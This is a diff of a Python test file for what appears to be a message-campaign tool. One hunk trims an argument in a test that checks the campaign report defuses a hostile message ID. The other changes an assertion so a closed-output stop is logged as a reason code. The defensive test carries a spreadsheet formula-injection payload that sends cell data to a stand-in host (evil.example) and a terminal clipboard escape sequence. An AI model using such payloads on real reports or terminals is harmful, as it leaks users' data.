@@ -184,7 +184,7 @@ def test_the_campaign_report_defuses_a_hostile_message_id(isolated_home, tmp_pat
     campaign = locked_campaign(tmp_path, "number,name\n4917200000001,=1+1\n")
     hostile_id = '=HYPERLINK("http://evil.example/?leak="&A2,"x")\x1b]52;c;eA==\x07'
     campaign.record_try(0, at=1.0, planned=1.0, gap=0.0)
-    campaign.record_done(0, Status.SENT, at=2.0, message_id=hostile_id, error="")
+    campaign.record_done(0, Status.SENT, at=2.0, message_id=hostile_id)
     path = campaign.write_report()
     campaign.unlock()
     text = path.read_text(encoding="utf-8")
@@ -253,7 +253,8 @@ def test_send_list_with_a_closed_stdout_is_interrupted_and_resumes_cleanly(tmp_p
             campaign_id = list_campaigns()[0].id
             stopped = open_campaign(campaign_id)
             assert stopped.count(Status.PENDING) > 0
-            assert "output was closed" in stopped.journal_path.read_text()
+            # The stop is kept as its code (said in words in the reader's language).
+            assert '"reason":{"code":"output_closed"}' in stopped.journal_path.read_text()
             resumed = run_cli(server, "send-list", "--resume", campaign_id, home=home)
             _, err = resumed.communicate(timeout=300)
             assert resumed.returncode == 0, err
